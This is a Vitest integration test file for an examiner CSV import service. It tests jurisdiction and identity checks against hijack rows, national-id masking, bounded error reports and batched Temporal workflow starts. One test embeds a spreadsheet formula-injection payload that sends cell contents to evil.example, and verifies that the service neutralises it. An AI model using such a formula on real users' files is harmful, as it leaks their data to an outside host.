import { WorkflowNotFoundError } from '@temporalio/client';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { IMPORT_COLUMNS, splitCsvLine } from '../../domain/examinerImport';
import { examinerImportWorkflowId } from '../../workflows/examinerImport.messages';
import { examinerRow, generateExaminerCsv, nationalId, postExaminerCsv, toCsv, type ExaminerCsvRow } from '../support/examinerCsv';
import { eventually, startHarness, type Harness } from '../support/harness';

/**
 * Bulk import of examiners from CSV: every row validated, the good ones written in one transaction, the
 * bad ones reported by line; then one renewal cycle (`qualification:<id>`) per imported qualification,
 * started a batch at a time. Reminders are 30 days before expiries in 2028 and later: none during the test.
 */
const LARGE = Number(process.env.EXAMINER_IMPORT_ROWS ?? 5000);
const LARGE_TIMEOUT_MS = 600_000;
/**
 * Each new workflow costs the worker's workflow thread tens of milliseconds here (its modules, zod
 * schemas included, are set up again per workflow), so 5,000 cycles take minutes on a 2-core machine:
 * by default the test waits for every cycle to be started and for the first batch to have written its
 * row; EXAMINER_IMPORT_ALL_CYCLES=1 waits for all of them to have written theirs.
 */
const ALL_CYCLES = process.env.EXAMINER_IMPORT_ALL_CYCLES === '1';
const SAMPLE = 500;
const BATCH = Number(process.env.EXAMINER_IMPORT_BATCH ?? 500);

let h: Harness;
beforeAll(async () => {
  h = await startHarness({ qualification: { importBatch: BATCH, importPace: 'PT0.2S', reminderOffsets: ['P30D'], validity: 'P3Y' } });
});
afterAll(async () => h?.close());

const postCsv = (csv: string, as = 'sup-1', headers: Record<string, string> = {}) => postExaminerCsv(h, csv, as, headers);

const masked = (id: string) => `${id.slice(0, 6)}${'*'.repeat(8)}${id.slice(-4)}`;

async function importedRows(importId: string) {
  return h.db('qualifications').where({ import_id: importId }).select('id', 'examiner_id', 'card_number', 'status', 'version');
}

/** The import workflow's result once it has completed (never waiting on a stuck one without bound). */
async function importResult(importId: string, timeoutMs = 60_000): Promise<unknown> {
  const handle = h.temporal.workflow.getHandle(examinerImportWorkflowId(importId));
  await eventually(
    async () => {
      const { status, raw } = await handle.describe();
      return status.name === 'COMPLETED' ? status.name : ({ status: status.name, pendingTasks: raw.pendingWorkflowTask?.attempt ?? 0 } as never);
    },
    { timeoutMs, intervalMs: 300, until: (v) => v === 'COMPLETED' },
  );
  return handle.result();
}

async function workflowIds(query: string): Promise<Set<string>> {
  const found = new Set<string>();
  for await (const wf of h.temporal.workflow.list({ query })) found.add(wf.workflowId);
  return found;
}

describe('an import never rewrites people', () => {
  /** What the register holds of an examiner: identity and status. */
  const entry = (id: string) => h.db('examiners').where({ id }).first('name', 'organisation', 'email', 'national_id', 'status', 'region_code');
  const reasonsByLine = (body: { rejected: Array<{ line: number; reasons: string[] }> }) => Object.fromEntries(body.rejected.map((r) => [r.line, r.reasons]));

  it("refuses a Xiamen supervisor's row naming a Foshan examiner, whatever national id it gives, and leaves the examiner as they were", async () => {
    const before = await entry('exam-1');
    const held = await h.db('qualifications').where({ examiner_id: 'exam-1' }).pluck('id');
    const seen = await h.api('GET', '/v1/examiners/exam-1', { as: 'sup-fs' });
    const hijack = { examiner_id: 'exam-1', name: 'Attacker', email: 'attacker@xm.example', organisation: 'Xiamen Front Co', region_code: '350200' };
    const res = await postCsv(
      toCsv([examinerRow(1, 'HX', { ...hijack, national_id: nationalId(4242) }), examinerRow(2, 'HX', { ...hijack, occupation_code: '6-31-01-03' })]),
      'sup-xm',
    );
    expect(res.status, res.text).toBe(201);
    expect(res.body).toMatchObject({ imported: 0, rejectedCount: 2, rejectedByReason: { 'outside jurisdiction': 2 } });
    expect(reasonsByLine(res.body)).toEqual({ 2: ['outside jurisdiction'], 3: ['outside jurisdiction'] });
    expect(await entry('exam-1')).toEqual(before);
    expect(before).toMatchObject({ name: '徐伟', status: 'active' });
    expect(await h.db('qualifications').where({ examiner_id: 'exam-1' }).pluck('id')).toEqual(held);
    expect((await h.api('GET', '/v1/examiners/exam-1', { as: 'sup-fs' })).body).toEqual(seen.body);
  });

  it('refuses a row naming an examiner the importer covers with another national id, or a user the register holds none for: identity mismatch', async () => {
    const rows = [
      examinerRow(1, 'HF', { examiner_id: 'exam-1', email: 'attacker@fs.example', occupation_code: '6-31-01-03' }),
      examinerRow(2, 'HF', { examiner_id: 'sup-fs' }),
    ];
    const res = await postCsv(toCsv(rows), 'sup-fs');
    expect(res.status, res.text).toBe(201);
    expect(res.body).toMatchObject({ imported: 0, rejectedByReason: { 'identity mismatch': 2 } });
    expect(res.body.rejected[0].errors).toEqual(['national_id: not that of exam-1 in the register']);
    expect(await h.db('examiners').where({ id: 'sup-fs' })).toEqual([]);
    expect(await entry('exam-1')).toMatchObject({ name: '徐伟', email: 'xu.wei@nanhai-machinery.example', status: 'active' });
  });

  it('adds a qualification to an examiner named with the right national id, changing neither their identity nor their status', async () => {
    const first = examinerRow(1, 'KF', { occupation_code: '4-04-05-01' });
    expect((await postCsv(toCsv([first]), 'sup-fs')).body).toMatchObject({ imported: 1, rejectedCount: 0, rejectionReport: null });
    const before = await entry('KF-1');
    expect(before).toMatchObject({ name: first.name, email: first.email, national_id: first.national_id, status: 'active', region_code: '440600' });

    const again = examinerRow(2, 'KF', {
      examiner_id: 'KF-1',
      national_id: first.national_id,
      name: 'Renamed',
      email: 'renamed@attacker.example',
      organisation: 'Another Works',
      occupation_code: '6-31-01-03',
    });
    const res = await postCsv(toCsv([again]), 'sup-fs');
    expect(res.body, res.text).toMatchObject({ imported: 1, rejectedCount: 0 });
    expect(await entry('KF-1')).toEqual(before);
    expect((await h.db('qualifications').where({ examiner_id: 'KF-1' }).pluck('occupation_code')).sort()).toEqual(['4-04-05-01', '6-31-01-03']);
    // Once its cycle has recorded itself, the examiner is still who they were.
    await eventually(async () => ((await h.db('qualifications').where({ import_id: res.body.importId, version: 1 }).first('id')) ? true : undefined));
    expect(await entry('KF-1')).toEqual(before);

    // A suspended examiner stays suspended: an import does not hand them an active qualification.
    await h.db('examiners').insert({
      id: 'KF-9',
      name: 'Suspended Examiner',
      organisation: 'Foshan Works',
      email: 'kf9@fs.example',
      national_id: nationalId(9),
      region_code: '440600',
      status: 'suspended',
    });
    const suspended = await postCsv(toCsv([examinerRow(9, 'KF')]), 'sup-fs');
    expect(suspended.body).toMatchObject({ imported: 0, rejectedByReason: { 'examiner not active': 1 } });
    expect(await entry('KF-9')).toMatchObject({ name: 'Suspended Examiner', status: 'suspended' });
  });

  it("refuses rows outside the importer's jurisdiction and takes those inside it", async () => {
    const rows = [
      examinerRow(1, 'JX', { region_code: '350200' }),
      examinerRow(2, 'JX', { region_code: '440600' }),
      examinerRow(3, 'JX', { region_code: '350100' }),
    ];
    const res = await postCsv(toCsv(rows), 'sup-xm');
    expect(res.body, res.text).toMatchObject({ imported: 1, rejectedCount: 2, rejectedByReason: { 'outside jurisdiction': 2 } });
    expect(reasonsByLine(res.body)).toEqual({ 3: ['outside jurisdiction'], 4: ['outside jurisdiction'] });
    expect(await h.db('examiners').whereIn('id', ['JX-1', 'JX-2', 'JX-3']).pluck('id')).toEqual(['JX-1']);
    // The machinery authority imports its occupations wherever the examiner is registered, and nothing else.
    const machinery = await postCsv(
      toCsv([examinerRow(4, 'JX', { occupation_code: '6-18-01-01', region_code: '350200' }), examinerRow(5, 'JX', { occupation_code: '4-04-05-01' })]),
      'sup-mach',
    );
    expect(machinery.body).toMatchObject({ imported: 1, rejectedByReason: { 'outside jurisdiction': 1 } });
    expect(machinery.body.rejected.map((r: { line: number }) => r.line)).toEqual([3]);
  });
});

describe('the answer to an import of bad rows', () => {
  const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"open")';

  it('stays under 100 KB for a 5 MB body: counts by reason and the first 100 rows; the CSV report holds them all, formulas neutralised', async () => {
    const rows: ExaminerCsvRow[] = [examinerRow(0, 'BIG', { name: FORMULA, email: 'not-an-email' })];
    const expected: Record<string, number> = { 'invalid email': 1 };
    const reasons = [
      ['invalid email', { email: 'no-at-sign.example' }],
      ['invalid level', { level: '9' }],
      ['outside jurisdiction', { region_code: '440600' }],
    ] as const;
    let size = Buffer.byteLength(toCsv(rows));
    for (let n = 1; size < 4_900_000; n++) {
      const [reason, overrides] = reasons[n % reasons.length];
      const row = examinerRow(n, 'BIG', { ...overrides, region_code: 'region_code' in overrides ? overrides.region_code : '350200' });
      rows.push(row);
      expected[reason] = (expected[reason] ?? 0) + 1;
      size += Buffer.byteLength(toCsv([row])) - Buffer.byteLength(`${IMPORT_COLUMNS.join(',')}\n`);
    }
    const csv = toCsv(rows);
    expect(Buffer.byteLength(csv)).toBeGreaterThan(4_800_000);
    expect(Buffer.byteLength(csv)).toBeLessThan(5_000_000);

    const res = await postCsv(csv, 'sup-xm', { 'idempotency-key': 'five-megabytes-of-bad-rows' });
    expect(res.status, res.text.slice(0, 500)).toBe(201);
    expect(Buffer.byteLength(res.text)).toBeLessThan(100_000);
    expect(res.body).toMatchObject({ imported: 0, rejectedCount: rows.length, rejectedByReason: expected });
    expect(res.body.rejected).toHaveLength(100);
    expect(res.body.rejected.map((r: { line: number }) => r.line)).toEqual(Array.from({ length: 100 }, (_, i) => i + 2));
    expect(res.body.rejected[0]).toEqual({ line: 2, reasons: ['invalid email'], errors: [expect.stringMatching(/^email: /)] });
    const importId = res.body.importId as string;
    expect(res.body.rejectionReport).toBe(`/v1/examiners/imports/${importId}/rejections.csv`);
    // What the Idempotency-Key keeps for a replay is the same bounded answer.
    const kept = await h.db('idempotency_keys').where({ idem_key: 'five-megabytes-of-bad-rows' }).first('response');
    expect(Buffer.byteLength(String(kept.response))).toBeLessThan(100_000);

    const download = await fetch(h.baseUrl + res.body.rejectionReport, { headers: { authorization: `Bearer ${await h.token('sup-xm')}` } });
    expect(download.status).toBe(200);
    expect(download.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(download.headers.get('content-disposition')).toBe(`attachment; filename="examiner-import-${importId}-rejections.csv"`);
    const lines = (await download.text())
      .replace(/^\uFEFF/, '')
      .split('\r\n')
      .filter(Boolean)
      .map(splitCsvLine);
    expect(lines[0]).toEqual(['line', 'reasons', 'errors', ...IMPORT_COLUMNS]);
    expect(lines).toHaveLength(rows.length + 1);
    expect(lines.slice(1).map((l) => Number(l[0]))).toEqual(rows.map((_, i) => i + 2));
    const name = 3 + IMPORT_COLUMNS.indexOf('name');
    expect(lines[1][name]).toBe(`'${FORMULA}`);
    expect(lines[1][3 + IMPORT_COLUMNS.indexOf('email')]).toBe('not-an-email');
    expect(lines.at(-1)![3]).toBe(rows.at(-1)!.examiner_id);
    expect(lines.slice(1).filter((l) => l[1] === 'outside jurisdiction')).toHaveLength(expected['outside jurisdiction']);
  }, 120_000);

  it('lets the importer and officials covering the import read the report; anyone else gets the 404 of an unknown import', async () => {
    const res = await postCsv(toCsv([examinerRow(1, 'RP', { level: '0', region_code: '350200' })]), 'sup-xm');
    const report = res.body.rejectionReport as string;
    const get = async (path: string, as: string) => {
      const r = await fetch(h.baseUrl + path, { headers: { authorization: `Bearer ${await h.token(as)}` } });
      return { status: r.status, text: await r.text() };
    };
    for (const as of ['sup-xm', 'sup-fj', 'sup-1']) expect((await get(report, as)).status, as).toBe(200);
    const unknown = '/v1/examiners/imports/01ARZ3NDEKTSV4RRFFQ69G5FAV/rejections.csv';
    for (const as of ['sup-fs', 'sup-gd', 'sup-mach']) {
      const [outside, missing] = [await get(report, as), await get(unknown, as)];
      expect([outside.status, missing.status], as).toEqual([404, 404]);
      expect(JSON.parse(outside.text)).toEqual({ error: { code: 'not_found', message: `no import ${res.body.importId}`, details: [] } });
      expect(JSON.parse(missing.text)).toEqual({ error: { code: 'not_found', message: 'no import 01ARZ3NDEKTSV4RRFFQ69G5FAV', details: [] } });
    }
    const reviewer = await h.api('GET', report, { as: 'rev-2' });
    expect(reviewer.status).toBe(403);
  });
});

describe('examiner import', () => {
  // Good rows: two examiners, one of them in two occupations; bad rows: one reason each.
  const goodRows = [examinerRow(1, 'S', { name: 'Huang, "Lei"', occupation_code: '4-04-05-01' }), examinerRow(2, 'S', { occupation_code: '6-18-01-01' })];
  // The same examiner (same identity) in another occupation.
  goodRows.push({ ...goodRows[0], occupation_code: '6-31-01-03', level: '2', card_number: examinerRow(3, 'S').card_number, expires_on: '2029-09-30' });
  const badRows: Array<{ row: ExaminerCsvRow; field: string }> = [
    { row: examinerRow(11, 'S', { email: 'huang.lei.at.example' }), field: 'email' },
    { row: examinerRow(12, 'S', { level: '7' }), field: 'level' },
    { row: examinerRow(13, 'S', { national_id: '44010619800101123' }), field: 'national_id' },
    { row: examinerRow(14, 'S', { issued_on: '2028-05-01', expires_on: '2028-04-30' }), field: 'expires_on' },
    { row: examinerRow(15, 'S', { card_number: goodRows[1].card_number }), field: 'card_number' },
  ];
  // Interleaved, with a blank line: good on lines 2, 4, 7; bad on 3, 5, 8, 9, 10 (line 6 is blank).
  const csv = [
    IMPORT_COLUMNS.join(','),
    ...toCsv([goodRows[0], badRows[0].row]).split('\n').slice(1, 3),
    ...toCsv([goodRows[1], badRows[1].row]).split('\n').slice(1, 3),
    '',
    ...toCsv([goodRows[2], badRows[2].row, badRows[3].row, badRows[4].row]).split('\n').slice(1, 5),
    '',
  ].join('\n');
  const goodLines = [2, 4, 7];
  const badLines = [3, 5, 8, 9, 10];
  let importId: string;
  let qualificationIds: string[];

  it('imports the good rows of a CSV and reports each bad row by line with its reasons', async () => {
    const res = await postCsv(csv);
    expect(res.status, JSON.stringify(res.body)).toBe(201);
    expect(res.body.imported).toBe(goodRows.length);
    expect(res.body.importId).toMatch(/^[0-9A-HJKMNP-TV-Z]{26}$/);
    importId = res.body.importId;
    expect(res.body.rejected.map((r: { line: number }) => r.line)).toEqual(badLines);
    res.body.rejected.forEach((r: { line: number; errors: string[] }, i: number) => {
      expect(r.errors.length, `line ${r.line}`).toBeGreaterThan(0);
      expect(
        r.errors.every((e) => e.startsWith(`${badRows[i].field}: `)),
        `line ${r.line}: ${r.errors.join('; ')}`,
      ).toBe(true);
    });
    expect(res.body.rejected[4].errors).toEqual([`card_number: ${goodRows[1].card_number} repeats in the file`]);

    // Written: the good rows only, active at version 0 until their cycles take them over.
    const rows = await importedRows(importId);
    expect(rows.map((r) => r.card_number).sort()).toEqual(goodRows.map((r) => r.card_number).sort());
    expect(rows.every((r) => r.status === 'active')).toBe(true);
    qualificationIds = rows.map((r) => r.id);

    // Nothing of a bad row: no examiner, no qualification, no card.
    const badIds = badRows.map((b) => b.row.examiner_id);
    expect(await h.db('examiners').whereIn('id', badIds)).toEqual([]);
    expect(await h.db('qualifications').whereIn('examiner_id', badIds)).toEqual([]);
    expect(
      await h.db('qualifications').whereIn(
        'card_number',
        badRows.slice(0, 4).map((b) => b.row.card_number),
      ),
    ).toEqual([]);
    expect(goodLines).toHaveLength(goodRows.length);
  });

  it('shows the imported examiners with a masked national id and their qualifications active', async () => {
    const one = await h.api('GET', '/v1/examiners/S-1', { as: 'sup-1' });
    expect(one.status, JSON.stringify(one.body)).toBe(200);
    expect(one.body).toMatchObject({ id: 'S-1', name: 'Huang, "Lei"', organisation: goodRows[0].organisation, status: 'active' });
    expect(one.body.nationalId).toBe(masked(goodRows[0].national_id));
    expect(one.body.nationalId).toMatch(/^\d{6}\*{8}\d{3}[\dX]$/);
    expect(JSON.stringify(one.body)).not.toContain(goodRows[0].national_id);
    expect(one.body.qualifications.map((q: { occupationCode: string }) => q.occupationCode).sort()).toEqual(['4-04-05-01', '6-31-01-03']);
    for (const q of one.body.qualifications) {
      const row = [goodRows[0], goodRows[2]].find((r) => r.occupation_code === q.occupationCode)!;
      expect(q).toMatchObject({ status: 'active', cardNumber: row.card_number, level: Number(row.level), cycle: 1 });
      expect(q.issuedAt).toBe(`${row.issued_on}T00:00:00.000Z`);
      expect(q.expiresAt).toBe(`${row.expires_on}T00:00:00.000Z`);
    }

    const two = await h.api('GET', '/v1/examiners/S-2', { as: 'sup-1' });
    expect(two.status).toBe(200);
    expect(two.body.nationalId).toBe(masked(goodRows[1].national_id));
    expect(two.body.qualifications).toEqual([expect.objectContaining({ status: 'active', cardNumber: goodRows[1].card_number, occupationCode: '6-18-01-01' })]);

    // In the register of qualifications as well.
    const listed = await h.api('GET', '/v1/qualifications?occupationCode=6-18-01-01&status=active&limit=100', { as: 'sup-1' });
    expect(listed.status).toBe(200);
    expect(listed.body.items.map((q: { cardNumber: string }) => q.cardNumber)).toContain(goodRows[1].card_number);

    expect((await h.api('GET', `/v1/examiners/${badRows[0].row.examiner_id}`, { as: 'sup-1' })).status).toBe(404);
  });

  it('starts one running cycle per imported qualification, which writes its row', async () => {
    const expected = qualificationIds.map((id) => `qualification:${id}`).sort();
    await eventually(
      async () => {
        const ids = await workflowIds(`CaseType = 'qualification' AND TaskQueue = '${h.taskQueue}'`);
        return expected.every((id) => ids.has(id)) ? ids : undefined;
      },
      { timeoutMs: 60_000, intervalMs: 500 },
    );
    for (const id of qualificationIds) {
      const described = await h.temporal.workflow.getHandle(`qualification:${id}`).describe();
      expect(described.status.name).toBe('RUNNING');
      expect(described.type).toBe('qualification');
    }
    const rows = await eventually(
      async () => {
        const rows = await importedRows(importId);
        return rows.every((r) => r.version >= 1) ? rows : undefined;
      },
      { timeoutMs: 60_000, intervalMs: 300 },
    );
    expect(rows.every((r) => r.status === 'active')).toBe(true);
    expect(await importResult(importId)).toEqual({ started: goodRows.length });

    // The cycle knows its card and expiry; its timeline starts with the import; the national id stays masked.
    const live = await h.api('GET', `/v1/qualifications/${qualificationIds[0]}`, { as: 'sup-1' });
    expect(live.status, JSON.stringify(live.body)).toBe(200);
    const row = goodRows.find((r) => r.card_number === live.body.record.cardNumber)!;
    expect(live.body.live).toMatchObject({ status: 'active', cardNumber: row.card_number, expiresAt: `${row.expires_on}T00:00:00.000Z`, remindersSent: [] });
    const timeline = await h.api('GET', `/v1/qualifications/${qualificationIds[0]}/timeline`, { as: 'sup-1' });
    expect(timeline.body.items.map((e: { action: string }) => e.action)).toEqual(['imported']);
    const again = await h.api('GET', '/v1/examiners/S-1', { as: 'sup-1' });
    expect(again.body.nationalId).toBe(masked(goodRows[0].national_id));
    expect(again.body.status).toBe('active');
  });

  it('rejects every row of the same CSV sent again: the good ones as already issued', async () => {
    const before = await h.db('qualifications').count({ n: '*' }).first();
    const res = await postCsv(csv);
    expect(res.status, JSON.stringify(res.body)).toBe(201);
    expect(res.body.imported).toBe(0);
    expect(res.body.importId).not.toBe(importId);
    const byLine = new Map<number, string[]>(res.body.rejected.map((r: { line: number; errors: string[] }) => [r.line, r.errors]));
    expect([...byLine.keys()].sort((a, b) => a - b)).toEqual([...goodLines, ...badLines].sort((a, b) => a - b));
    // Already issued, and already a live qualification of that examiner and occupation.
    goodLines.forEach((l, i) =>
      expect(byLine.get(l)).toEqual([
        `card_number: ${goodRows[i].card_number} is already issued`,
        `examiner_id: ${goodRows[i].examiner_id} already has ${goodRows[i].occupation_code}`,
      ]),
    );
    expect(byLine.get(10)!.join(' ')).toContain('is already issued');
    expect(await h.db('qualifications').count({ n: '*' }).first()).toEqual(before);
    expect(await importedRows(res.body.importId)).toEqual([]);
    await expect(h.temporal.workflow.getHandle(examinerImportWorkflowId(res.body.importId)).describe()).rejects.toBeInstanceOf(WorkflowNotFoundError);
  });

  it('refuses callers who are not supervisors, and a CSV without its header', async () => {
    const fresh = toCsv([examinerRow(21, 'S')]);
    for (const as of ['rev-2', 'exam-1']) {
      const res = await postCsv(fresh, as);
      expect(res.status, `${as}: ${JSON.stringify(res.body)}`).toBe(403);
    }
    const headless = fresh.split('\n').slice(1).join('\n');
    const res = await postCsv(headless);
    expect(res.status, JSON.stringify(res.body)).toBe(400);
    expect(res.body.error.message).toContain('the header lacks');
    expect(res.body.error.message).toContain('examiner_id');
    expect((await postCsv('')).status).toBe(400);
    expect(await h.db('examiners').where({ id: 'S-21' })).toEqual([]);
  });

  it(
    `imports ${LARGE} rows in one request and starts their cycles a batch at a time`,
    async () => {
      const { csv: large, rows } = generateExaminerCsv(LARGE, 'L');
      // The cycles of the file's earlier imports run on the same task queue, one per qualification.
      // The cycles still running (the demo register's lapsed ones have ended).
      const earlierCycles = Number((await h.db('qualifications').whereNotIn('status', ['lapsed', 'revoked', 'rejected']).count({ n: '*' }).first())?.n);
      expect(Buffer.byteLength(large)).toBeLessThan(5_000_000);

      const started = performance.now();
      const res = await postCsv(large);
      const importedMs = Math.round(performance.now() - started);
      expect(res.status, JSON.stringify(res.body).slice(0, 2000)).toBe(201);
      expect(res.body.rejected).toEqual([]);
      expect(res.body.imported).toBe(LARGE);
      const largeImport = res.body.importId as string;
      const written = await h.db('qualifications').where({ import_id: largeImport }).count({ n: '*' }).first();
      expect(Number(written?.n)).toBe(LARGE);
      const firstAndLast = await h
        .db('examiners')
        .whereIn('id', [rows[0].examiner_id, rows[LARGE - 1].examiner_id])
        .select('id', 'national_id');
      expect(firstAndLast.map((e) => e.national_id).sort()).toEqual([rows[0].national_id, rows[LARGE - 1].national_id].sort());

      // The import starts the cycles in id order, a batch at a time; the first batch is the sample that must write its rows.
      const ids: string[] = (await h.db('qualifications').where({ import_id: largeImport }).orderBy('id').select('id')).map((r) => r.id);
      const sampleIds = ALL_CYCLES ? ids : ids.slice(0, SAMPLE);
      const progress: string[] = [];
      let nextReport = 10_000;
      const withCycle = async (only?: string[]) => {
        const q = h.db('qualifications').where({ import_id: largeImport }).where('version', '>=', 1);
        if (only) q.whereIn('id', only);
        return Number((await q.count({ n: '*' }).first())?.n ?? 0);
      };
      await eventually(
        async () => {
          const n = ALL_CYCLES ? await withCycle() : await withCycle(sampleIds);
          const elapsed = performance.now() - started;
          if (elapsed >= nextReport) {
            progress.push(`${Math.round(elapsed / 1000)}s:${ALL_CYCLES ? n : await withCycle()}`);
            nextReport += 10_000;
          }
          return n >= sampleIds.length ? n : ({ withCycle: n, of: sampleIds.length } as never);
        },
        { timeoutMs: LARGE_TIMEOUT_MS - 60_000, intervalMs: 500, until: (v) => typeof v === 'number' },
      );
      const sampleMs = Math.round(performance.now() - started);

      // A bounded rate: the import started every cycle, in batches of the policy's size with a pause after each.
      const handle = h.temporal.workflow.getHandle(examinerImportWorkflowId(largeImport));
      expect(await importResult(largeImport, 300_000)).toEqual({ started: LARGE });
      const startsMs = Math.round(performance.now() - started);
      const described = await handle.describe();
      const importRunMs = (described.closeTime?.getTime() ?? NaN) - described.startTime.getTime();
      const events = (await handle.fetchHistory()).events ?? [];
      expect(events.filter((e) => e.activityTaskScheduledEventAttributes?.activityType?.name === 'startQualificationCycles')).toHaveLength(
        Math.ceil(LARGE / BATCH),
      );
      expect(events.filter((e) => e.timerStartedEventAttributes)).toHaveLength(Math.ceil(LARGE / BATCH));

      // Every cycle exists as its own running workflow on this task queue (started; the sample has also written).
      const counted = await eventually(
        async () => {
          const { count } = await h.temporal.workflow.count(`WorkflowType = 'qualification' AND ExecutionStatus = 'Running' AND TaskQueue = '${h.taskQueue}'`);
          return count >= LARGE + earlierCycles ? count : ({ running: count } as never);
        },
        { timeoutMs: 60_000, intervalMs: 1000, until: (v) => typeof v === 'number' },
      );
      expect(counted).toBe(LARGE + earlierCycles);
      const spread = [ids[0], ids[Math.floor(LARGE / 2)], ids[LARGE - 1], ...sampleIds.slice(-3)];
      for (const id of spread) expect((await h.temporal.workflow.getHandle(`qualification:${id}`).describe()).status.name).toBe('RUNNING');

      const allWritten = await withCycle();
      if (ALL_CYCLES) {
        console.log(`examiner import: ${LARGE} rows validated and imported in ${importedMs} ms; ${LARGE} renewal cycles running after ${sampleMs} ms`);
      } else {
        console.log(
          `examiner import: ${LARGE} rows validated and imported in ${importedMs} ms; ${LARGE} renewal cycles started after ${startsMs} ms ` +
            `(import workflow ${importRunMs} ms), the first ${sampleIds.length} running (rows written) after ${sampleMs} ms, ${allWritten} written by the time all were started`,
        );
      }
      if (progress.length) console.log(`examiner import: cycles with their rows written, by elapsed time: ${progress.join(' ')}`);
    },
    LARGE_TIMEOUT_MS,
  );
});
